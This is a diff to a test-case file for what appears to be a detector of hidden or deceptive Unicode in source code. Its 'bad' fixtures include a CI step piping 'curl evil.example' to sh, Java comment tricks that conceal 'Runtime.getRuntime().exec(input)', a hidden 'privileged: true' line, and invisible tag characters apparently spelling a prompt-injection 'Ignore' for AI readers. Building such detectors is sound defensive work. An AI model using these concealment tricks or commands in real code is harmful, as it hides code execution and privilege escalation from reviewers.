@@ -16,6 +16,8 @@ export const HIDDEN_TEXT: Cases = {
     bad: [
       { path: "src/auth.js", code: "function is\u200BAdmin() { return false; }" },
       { path: ".github/workflows/ci.yml", code: "steps:\n  # build\r  - run: curl evil.example | sh" },
+      { path: "src/A.java", code: String.raw`// see below \u000a Runtime.getRuntime().exec(input);` },
+      { path: "src/B.java", code: String.raw`/* see below \u002A/ Runtime.getRuntime().exec(input); /* */` },
       { path: "deploy/values.yaml", code: "a: 1 # see below\u0085privileged: true" },
       { path: "src/Program.cs", code: "// see below\u0085Run(input);" },
       { path: "README.md", code: "Read this.\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}" },
@@ -26,6 +28,8 @@ export const HIDDEN_TEXT: Cases = {
         code: 'const family = "👨‍👩‍👧"; const flag = "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}";',
       },
       { path: "locales/fa.json", code: '{ "books": "کتاب\u200Cها" }' },
+      { path: "src/Lines.java", code: String.raw`String end = "\\u000a"; // and \u00e9` },
+      { path: "src/lines.ts", code: String.raw`const end = "\u000a";` },
       { path: "docs/session.md", code: "10 %\r20 %\rdone" },
       { path: "tests/fixtures/session.txt", code: "10 %\r20 %\u0085done" },
       { path: "src/Program.cs", code: "\uFEFFusing System;" },
